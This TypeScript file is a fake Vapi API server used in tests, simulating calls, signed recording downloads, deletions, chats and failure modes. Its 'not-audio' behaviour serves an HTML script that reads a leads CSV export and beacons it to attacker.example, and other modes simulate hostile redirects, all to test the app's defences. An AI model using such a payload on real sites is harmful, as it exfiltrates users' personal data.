import { createHmac, randomBytes } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { FakeVapiChats, type FakeChatBehaviour, type FakeChatOutcome, type FakeSessionReadBehaviour } from './fake-vapi-chats';
import { badRequest, FakeVapiResources, sendJson as send, type FakeAnswer } from './fake-vapi-resources';
import { assistantRequestMessage, postServerMessage, toolCallsMessage, transferDestinationRequestMessage, type FakeCallContext, type FakeChatContext, type FakeServerUrl, type FakeToolCall, type ServerAnswer } from './server-messages';
import { toneWav } from './test-recording';
import { compileVapiSchemas, vapiSchemaErrors } from './vapi-schema-validator';

/** How the fake answers call creations (`POST /call`, and the browser SDK's `POST /call/web`). */
export type FakeVapiBehaviour =
  | 'success'
  | 'slow'
  | 'client-error'
  | 'unauthorized'
  | 'echo-credential'
  | 'server-error'
  | 'html-error'
  | 'malformed'
  | 'held'
  | 'hang';

/**
 * How the fake answers `GET /call/{id}/mono-recording`, and how its storage answers the signed URL.
 * The attacks: 'redirect-elsewhere' signs a URL on another host name of this fake (`localhost`
 * where the fake is `127.0.0.1`: a host the app does not list); 'storage-redirects' has the storage
 * redirect once more, to that other host; 'not-audio' has it serve an HTML page with a script.
 */
export type FakeRecordingBehaviour = 'success' | 'missing' | 'server-error' | 'hang' | 'redirect-elsewhere' | 'storage-redirects' | 'not-audio';

/** How the fake answers `DELETE /call/{id}`: 'outage' is the document's 503 ("the call was not deleted. Retry the request."). */
export type FakeDeleteBehaviour = 'success' | 'outage';

export interface RecordedVapiRequest {
  method: string;
  path: string;
  search: string;
  authorization: string | undefined;
  range: string | undefined;
  body: unknown;
  /** The id a call gets when this call creation succeeds. */
  callId?: string;
  /** When the request arrived (Date.now()): how long a lead waited for its call is measured against it. */
  receivedAt: number;
}

const RECORDING_PATH = /^\/call\/([^/]+)\/mono-recording$/;
const CALL_PATH = /^\/call\/([^/]+)$/;
const LIST_TIME_FILTER = /^(createdAt|updatedAt)(Gt|Lt|Ge|Le)$/;
const STORAGE_PATH = /^\/storage\/recordings\/([^/]+)\.wav$/;
const SESSION_PATH = /^\/session\/([^/]+)$/;
/** Vapi's 503 for a deletion it could not carry out (the document's words for a call's). */
const DELETION_OUTAGE: FakeAnswer = { status: 503, body: { statusCode: 503, message: 'Failed to erase call recordings; the call was not deleted. Retry the request.', error: 'Service Unavailable' } };
const RESOURCE_PATH = /^\/(assistant|structured-output|credential|tool|phone-number)(?:\/([^/]+))?$/;
/** How long a signed recording URL stays valid, as Vapi's presigned URLs expire. */
const SIGNED_URL_SECONDS = 300;

/**
 * One local stand-in for Vapi's HTTP API, for the API tests and the browser tests, speaking
 * the shapes of Vapi's OpenAPI document:
 * - call creation (`POST /call`, `POST /call/web`) with every failure a client must survive:
 *   400, 401 (quoting the credential it got), 500 as JSON or HTML, invalid JSON, an answer
 *   held back until the test releases it, a slow one, or none at all;
 * - assistants, structured outputs and credentials (list, create, update), refusing a body
 *   that does not fit the document (see FakeVapiResources);
 * - recordings: `GET /call/{id}/mono-recording` redirects to a short-lived signed URL on its
 *   "storage", which serves a real WAV with ranges and, like S3, refuses a request that
 *   carries an Authorization header beside the signature;
 * - the phone calls created (`GET /call`, with the document's filters: a call is listed once
 *   the fake received its creation, even while the answer is held or lost, as at Vapi);
 * - call deletion (`DELETE /call/{id}`, body DeleteCallDTO): 200 with the call, after which its
 *   recording is gone (404); or, during an outage, 503 as the document defines it; a chat's session
 *   likewise (`DELETE /session/{id}`);
 * - tools (function and transferCall) and phone numbers (get, update), as `pnpm vapi:setup` uses them;
 * - text chat: sessions, `POST /chat` and `POST /chat/web`, whole or streamed, and `session.updated`
 *   (see FakeVapiChats);
 * - during a call, the messages Vapi waits on for an answer, sent to a server URL with its
 *   credential (sendToolCalls, requestTransferDestination, requestAssistant), each message and
 *   each 200 answer checked against the document's schemas;
 * - `POST /__fake/behaviour`, `GET /__fake/requests` and `POST /__fake/tool-calls` (sendToolCalls
 *   on its behalf: the model calls a tool during a call), for a test in another process.
 */
export class FakeVapiServer {
  behaviour: FakeVapiBehaviour = 'success';
  recordingBehaviour: FakeRecordingBehaviour = 'success';
  deleteBehaviour: FakeDeleteBehaviour = 'success';
  /** Vapi call ids deleted: their recordings are gone. */
  readonly deletedCalls = new Set<string>();
  /** How long 'slow' waits before answering. */
  delayMs = 0;
  /** Requests whose connection the client gave up on before an answer was sent. */
  abandoned = 0;
  readonly requests: RecordedVapiRequest[] = [];
  /** The phone calls created (`POST /call`), as `GET /call` lists them: a call exists once Vapi received it, whether or not its answer was sent. */
  readonly createdCalls: Record<string, unknown>[] = [];
  readonly resources = new FakeVapiResources();
  readonly chats = new FakeVapiChats();
  /** What every call's recording is. */
  readonly recording = toneWav();
  private server?: Server;
  private calls = 0;
  private readonly storageKey = randomBytes(16);
  private readonly waiting = new Set<ServerResponse>();
  private readonly arrivals: ((request: RecordedVapiRequest) => void)[] = [];
  private readonly held: (() => void)[] = [];

  /** Requests still waiting for an answer ('hang' and 'slow'). */
  get hanging(): number {
    return this.waiting.size;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.server!.address() as AddressInfo).port}`;
  }

  async start(): Promise<void> {
    compileVapiSchemas();
    this.server = createServer((request, response) =>
      this.handle(request, response).catch((error: unknown) => {
        // A fake that breaks must fail the test loudly, not leave the client waiting.
        if (!response.headersSent) response.writeHead(500, { 'Content-Type': 'application/json' });
        response.end(JSON.stringify({ message: `Fake voice platform failed: ${String(error)}` }));
      }),
    );
    await new Promise<void>((resolve) => this.server!.listen(0, '127.0.0.1', resolve));
  }

  async stop(): Promise<void> {
    for (const response of this.waiting) response.destroy();
    this.server?.closeAllConnections();
    await new Promise((resolve) => this.server?.close(resolve));
  }

  /** Resolves when the next request arrives (before it is answered). */
  nextRequest(): Promise<RecordedVapiRequest> {
    return new Promise((resolve) => this.arrivals.push(resolve));
  }

  /** The model called tools during a call, or a text chat: a `tool-calls` message, answered with `{ results }` (ServerMessageResponseToolCalls). */
  sendToolCalls(server: FakeServerUrl, about: FakeCallContext | { chat: FakeChatContext }, toolCalls: FakeToolCall[]): Promise<ServerAnswer> {
    return postServerMessage(server, toolCallsMessage(about, toolCalls), { message: 'ServerMessageToolCalls', answer: 'ServerMessageResponseToolCalls' });
  }

  /** The assistant's transfer tool has no destination: where to (ServerMessageResponseTransferDestinationRequest: `destination` or `error`). */
  requestTransferDestination(server: FakeServerUrl, call: FakeCallContext): Promise<ServerAnswer> {
    const message = transferDestinationRequestMessage(call);
    return postServerMessage(server, { checked: message, sent: message }, { message: 'ServerMessageTransferDestinationRequest', answer: 'ServerMessageResponseTransferDestinationRequest' });
  }

  /** An inbound call reached a number with no assistant: which one answers it (ServerMessageResponseAssistantRequest). */
  requestAssistant(server: FakeServerUrl, call: FakeCallContext): Promise<ServerAnswer> {
    const message = assistantRequestMessage(call);
    return postServerMessage(server, { checked: message, sent: message }, { message: 'ServerMessageAssistantRequest', answer: 'ServerMessageResponseAssistantRequest' });
  }

  /** Sends the answers the 'held' behaviour kept back (call creations and chat answers). */
  release(): void {
    for (const answer of this.held.splice(0)) answer();
    this.chats.release();
  }

  private async handle(request: IncomingMessage, response: ServerResponse): Promise<void> {
    const url = new URL(request.url ?? '/', 'http://fake.vapi');
    const method = request.method ?? 'GET';
    // The browser SDK calls from the page's origin.
    response.setHeader('Access-Control-Allow-Origin', '*');
    response.setHeader('Access-Control-Allow-Headers', 'authorization, content-type');
    response.setHeader('Access-Control-Allow-Methods', 'GET, POST, PATCH, DELETE, OPTIONS');
    if (method === 'OPTIONS') return void response.writeHead(204).end();

    const text = await readText(request);
    let body: unknown = null;
    try {
      body = text ? JSON.parse(text) : null;
    } catch {
      return send(response, badRequest(['The request body is not valid JSON.']));
    }
    if (url.pathname.startsWith('/__fake/')) return send(response, await this.control(method, url.pathname, body));

    const recorded: RecordedVapiRequest = {
      method,
      path: url.pathname,
      search: url.search,
      authorization: request.headers.authorization,
      range: request.headers.range,
      body,
      receivedAt: Date.now(),
    };
    const isCallCreation = method === 'POST' && (url.pathname === '/call' || url.pathname === '/call/web');
    if (isCallCreation) recorded.callId = `vapi-call-${(this.calls += 1)}`;
    this.requests.push(recorded);
    for (const arrived of this.arrivals.splice(0)) arrived(recorded);
    response.on('close', () => {
      this.waiting.delete(response);
      if (!response.writableFinished) this.abandoned += 1;
    });

    const storage = STORAGE_PATH.exec(url.pathname);
    if (method === 'GET' && storage) return this.serveStorage(decodeURIComponent(storage[1]), url, request, response);
    if (!/^Bearer \S/.test(request.headers.authorization ?? '')) {
      return send(response, { status: 401, body: { statusCode: 401, message: 'Missing Authorization Header.', error: 'Unauthorized' } });
    }
    if (isCallCreation) return this.createCall(recorded, request, response);
    if (method === 'POST' && (url.pathname === '/chat' || url.pathname === '/chat/web')) return this.chats.chat(url.pathname, body, response);
    if (method === 'POST' && url.pathname === '/session') return send(response, this.chats.createSession(body));
    const session = SESSION_PATH.exec(url.pathname);
    if (method === 'GET' && session) return send(response, this.chats.getSession(decodeURIComponent(session[1])));
    if (method === 'PATCH' && session) return send(response, this.chats.updateSession(decodeURIComponent(session[1]), body));
    if (method === 'DELETE' && session) return send(response, this.deleteBehaviour === 'outage' ? DELETION_OUTAGE : this.chats.deleteSession(decodeURIComponent(session[1])));
    if (method === 'GET' && url.pathname === '/call') return send(response, this.listCalls(url.searchParams));
    const deletion = CALL_PATH.exec(url.pathname);
    if (method === 'DELETE' && deletion) return send(response, this.deleteCall(decodeURIComponent(deletion[1]), body));
    const recording = RECORDING_PATH.exec(url.pathname);
    if (method === 'GET' && recording) return this.redirectToRecording(decodeURIComponent(recording[1]), response);
    const resource = RESOURCE_PATH.exec(url.pathname);
    if (resource && FakeVapiResources.isKind(resource[1])) {
      const [, kind, id] = resource;
      if (method === 'GET' && !id) return send(response, this.resources.list(kind, url.searchParams));
      if (method === 'GET' && id) return send(response, this.resources.get(kind, decodeURIComponent(id)));
      if (method === 'POST' && !id) return send(response, this.resources.create(kind, body));
      if (method === 'PATCH' && id) return send(response, this.resources.update(kind, decodeURIComponent(id), body, url.searchParams));
    }
    send(response, { status: 404, body: { statusCode: 404, message: `Cannot ${method} ${url.pathname}`, error: 'Not Found' } });
  }

  private async control(method: string, path: string, body: unknown): Promise<FakeAnswer> {
    if (method === 'POST' && path === '/__fake/behaviour') {
      const { behaviour, recordingBehaviour, deleteBehaviour, chatBehaviour, sessionReadBehaviour, chatChunkDelayMs, chatServerUrl, chatOutcome } = (body ?? {}) as {
        behaviour?: FakeVapiBehaviour;
        recordingBehaviour?: FakeRecordingBehaviour;
        deleteBehaviour?: FakeDeleteBehaviour;
        chatBehaviour?: FakeChatBehaviour;
        sessionReadBehaviour?: FakeSessionReadBehaviour;
        chatChunkDelayMs?: number;
        /** Where `session.updated` goes when a session completes (a browser test's app), with its credential. */
        chatServerUrl?: FakeServerUrl | null;
        /** What every session's artifact says once completed (its structured outputs), until changed. */
        chatOutcome?: FakeChatOutcome;
      };
      this.behaviour = behaviour ?? 'success';
      this.recordingBehaviour = recordingBehaviour ?? 'success';
      this.deleteBehaviour = deleteBehaviour ?? 'success';
      this.chats.behaviour = chatBehaviour ?? 'success';
      this.chats.readBehaviour = sessionReadBehaviour ?? 'success';
      this.chats.chunkDelayMs = chatChunkDelayMs ?? 0;
      if (chatServerUrl !== undefined) this.chats.serverUrl = chatServerUrl ?? undefined;
      if (chatOutcome !== undefined) this.chats.outcome = () => chatOutcome;
      this.requests.length = 0;
      return {
        status: 200,
        body: {
          behaviour: this.behaviour,
          recordingBehaviour: this.recordingBehaviour,
          deleteBehaviour: this.deleteBehaviour,
          chatBehaviour: this.chats.behaviour,
          sessionReadBehaviour: this.chats.readBehaviour,
          chatChunkDelayMs: this.chats.chunkDelayMs,
        },
      };
    }
    if (method === 'GET' && path === '/__fake/requests') return { status: 200, body: this.requests };
    if (method === 'POST' && path === '/__fake/tool-calls') {
      const { server, call, toolCalls } = body as { server: FakeServerUrl; call: FakeCallContext; toolCalls: FakeToolCall[] };
      return { status: 200, body: await this.sendToolCalls(server, call, toolCalls) };
    }
    return { status: 404, body: { statusCode: 404, message: `No control route ${method} ${path}` } };
  }

  private async createCall(recorded: RecordedVapiRequest, request: IncomingMessage, response: ServerResponse): Promise<void> {
    if (recorded.path === '/call') {
      const errors = vapiSchemaErrors('CreateCallDTO', recorded.body);
      if (errors.length > 0) return send(response, badRequest(errors));
    }
    const now = new Date().toISOString();
    const body = (recorded.body ?? {}) as Record<string, unknown>;
    const isWebCall = recorded.path === '/call/web';
    const call = {
      id: recorded.callId,
      orgId: 'fake-org',
      type: isWebCall ? 'webCall' : 'outboundPhoneCall',
      status: 'queued',
      createdAt: now,
      updatedAt: now,
      assistantId: body.assistantId,
      phoneNumberId: body.phoneNumberId,
      customer: body.customer,
      assistantOverrides: body.assistantOverrides,
    };
    // The platform dials as soon as it accepts the request; its answer may be held, slow or lost on the way.
    if (!isWebCall && ['success', 'held', 'slow', 'hang'].includes(this.behaviour)) this.createdCalls.push(call);
    switch (this.behaviour) {
      case 'client-error':
        return send(response, badRequest(['customer.number must be a valid phone number in the E.164 format.']));
      case 'unauthorized':
        return send(response, {
          status: 401,
          body: { statusCode: 401, message: 'Invalid Key. Hot tip, you may be using the private key instead of the public key, or vice versa.', error: 'Unauthorized' },
        });
      case 'echo-credential':
        return send(response, { status: 401, body: { message: `Invalid Key. Got ${request.headers.authorization}`, error: 'Unauthorized', statusCode: 401 } });
      case 'server-error':
        return send(response, { status: 500, body: { message: 'Internal server error', statusCode: 500, error: 'Internal Server Error' } });
      case 'html-error':
        response.writeHead(500, { 'Content-Type': 'text/html' });
        return void response.end('<html><body><h1>502 Bad Gateway</h1></body></html>');
      case 'malformed':
        response.writeHead(201, { 'Content-Type': 'application/json' });
        return void response.end('{"id": "call_');
      case 'hang':
        this.waiting.add(response);
        return;
      case 'held':
        await new Promise<void>((resolve) => this.held.push(resolve));
        break;
      case 'slow':
        if (!(await this.wait(response, this.delayMs))) return;
        break;
      case 'success':
        break;
    }
    send(response, {
      status: 201,
      body: {
        ...call,
        // The room the browser SDK would join next: unreachable here, so a web call never goes live.
        ...(isWebCall ? { webCallUrl: `http://127.0.0.1:9/${recorded.callId}` } : {}),
      },
    });
  }

  /**
   * `GET /call`: the phone calls created, newest first, filtered by the document's query
   * parameters (id, assistantId, phoneNumberId, createdAt/updatedAt Gt/Lt/Ge/Le, limit); a
   * parameter the document does not list, or a bad value, is refused as Vapi refuses it.
   */
  private listCalls(query: URLSearchParams): FakeAnswer {
    const errors: string[] = [];
    const times = new Map<string, number>();
    for (const [name, value] of query) {
      if (LIST_TIME_FILTER.test(name)) {
        if (Number.isNaN(Date.parse(value)) || !/^\d{4}-\d{2}-\d{2}T/.test(value)) errors.push(`${name} must be a valid ISO 8601 date string`);
        else times.set(name, Date.parse(value));
      } else if (name === 'limit') {
        if (!/^\d+$/.test(value) || Number(value) > 1000) errors.push('limit must not be greater than 1000');
      } else if (!['id', 'assistantId', 'phoneNumberId'].includes(name)) errors.push(`property ${name} should not exist`);
    }
    if (errors.length > 0) return badRequest(errors);
    const compare = { Gt: (a: number, b: number) => a > b, Lt: (a: number, b: number) => a < b, Ge: (a: number, b: number) => a >= b, Le: (a: number, b: number) => a <= b };
    const matches = this.createdCalls.filter((call) =>
      ['id', 'assistantId', 'phoneNumberId'].every((field) => !query.has(field) || call[field] === query.get(field)) &&
      [...times].every(([name, at]) => {
        const [, field, operator] = LIST_TIME_FILTER.exec(name)!;
        return compare[operator as keyof typeof compare](Date.parse(String(call[field])), at);
      }),
    );
    const calls = matches.reverse().slice(0, query.has('limit') ? Number(query.get('limit')) : 100);
    for (const call of calls) {
      const drift = vapiSchemaErrors('Call', JSON.parse(JSON.stringify(call)));
      if (drift.length > 0) throw new Error(`The fake's call does not fit Vapi's Call schema: ${drift.join('; ')}`);
    }
    return { status: 200, body: calls };
  }

  /** `DELETE /call/{id}`: the call's data and recordings go; 503 while 'outage'. */
  private deleteCall(callId: string, body: unknown): FakeAnswer {
    const errors = vapiSchemaErrors('DeleteCallDTO', body ?? {});
    if (errors.length > 0) return badRequest(errors);
    if (this.deleteBehaviour === 'outage') {
      return DELETION_OUTAGE;
    }
    this.deletedCalls.add(callId);
    const now = new Date().toISOString();
    return { status: 200, body: { id: callId, orgId: 'fake-org', type: 'inboundPhoneCall', status: 'ended', createdAt: now, updatedAt: now } };
  }

  /** Vapi's answer to a recording download: a 302 to a presigned URL that expires. */
  private async redirectToRecording(callId: string, response: ServerResponse): Promise<void> {
    if (this.deletedCalls.has(callId)) return send(response, { status: 404, body: { statusCode: 404, message: 'Call not found.', error: 'Not Found' } });
    switch (this.recordingBehaviour) {
      case 'missing':
        return send(response, { status: 404, body: { statusCode: 404, message: 'Artifact not found.', error: 'Not Found' } });
      case 'server-error':
        return send(response, { status: 500, body: { statusCode: 500, message: 'Internal server error', error: 'Internal Server Error' } });
      case 'hang':
        this.waiting.add(response);
        return;
      case 'redirect-elsewhere':
        response.writeHead(302, { Location: this.signedStorageUrl(callId, this.otherHostUrl) });
        return void response.end();
      default:
        break;
    }
    response.writeHead(302, { Location: this.signedStorageUrl(callId, this.url) });
    response.end();
  }

  /** This fake under another host name: what a redirect to a host the app does not list leads to. */
  private get otherHostUrl(): string {
    return this.url.replace('127.0.0.1', 'localhost');
  }

  private signedStorageUrl(callId: string, base: string): string {
    const expires = Math.floor(Date.now() / 1000) + SIGNED_URL_SECONDS;
    return `${base}/storage/recordings/${encodeURIComponent(callId)}.wav?X-Amz-Expires=${expires}&X-Amz-Signature=${this.signature(callId, expires)}`;
  }

  private serveStorage(callId: string, url: URL, request: IncomingMessage, response: ServerResponse): void {
    const expires = Number(url.searchParams.get('X-Amz-Expires'));
    if (url.searchParams.get('X-Amz-Signature') !== this.signature(callId, expires) || expires * 1000 < Date.now()) {
      return send(response, { status: 403, body: { message: 'Request has expired or its signature does not match.' } });
    }
    if (request.headers.authorization) {
      return send(response, { status: 400, body: { message: 'Only one auth mechanism allowed; only the X-Amz-Signature query parameter is supported.' } });
    }
    if (this.recordingBehaviour === 'storage-redirects' && request.headers.host?.startsWith('127.0.0.1')) {
      response.writeHead(302, { Location: this.signedStorageUrl(callId, this.otherHostUrl) });
      return void response.end();
    }
    if (this.recordingBehaviour === 'not-audio') {
      response.writeHead(200, { 'Content-Type': 'text/html' });
      return void response.end('<!doctype html><script>fetch("/api/leads/export.csv").then((r) => r.text()).then((csv) => navigator.sendBeacon("https://attacker.example", csv))</script>');
    }
    const audio = this.recording;
    const headers = { 'Content-Type': 'audio/wav', 'Accept-Ranges': 'bytes' };
    const range = parseRange(request.headers.range, audio.length);
    if (range === 'unsatisfiable') {
      response.writeHead(416, { ...headers, 'Content-Range': `bytes */${audio.length}` });
      return void response.end();
    }
    if (!range) {
      response.writeHead(200, { ...headers, 'Content-Length': audio.length });
      return void response.end(audio);
    }
    const [start, end] = range;
    response.writeHead(206, { ...headers, 'Content-Length': end - start + 1, 'Content-Range': `bytes ${start}-${end}/${audio.length}` });
    response.end(audio.subarray(start, end + 1));
  }

  private signature(callId: string, expires: number): string {
    return createHmac('sha256', this.storageKey).update(`${callId}:${expires}`).digest('hex');
  }

  /** Waits `ms`, or less if the client hangs up (false then); a stopped fake ends the wait too. */
  private async wait(response: ServerResponse, ms: number): Promise<boolean> {
    this.waiting.add(response);
    await new Promise<void>((resolve) => {
      const timer = setTimeout(resolve, ms);
      response.once('close', () => {
        clearTimeout(timer);
        resolve();
      });
    });
    this.waiting.delete(response);
    return !response.destroyed;
  }
}

/** One `bytes=` range as [first, last] byte, 'unsatisfiable', or undefined for the whole file. */
function parseRange(header: string | undefined, size: number): [number, number] | 'unsatisfiable' | undefined {
  const match = /^bytes=(\d*)-(\d*)$/.exec(header ?? '');
  if (!match || (match[1] === '' && match[2] === '')) return undefined;
  const [start, end] =
    match[1] === '' ? [Math.max(0, size - Number(match[2])), size - 1] : [Number(match[1]), match[2] === '' ? size - 1 : Math.min(Number(match[2]), size - 1)];
  return start > end || start >= size ? 'unsatisfiable' : [start, end];
}

async function readText(request: IncomingMessage): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of request) chunks.push(chunk as Buffer);
  return Buffer.concat(chunks).toString('utf8');
}
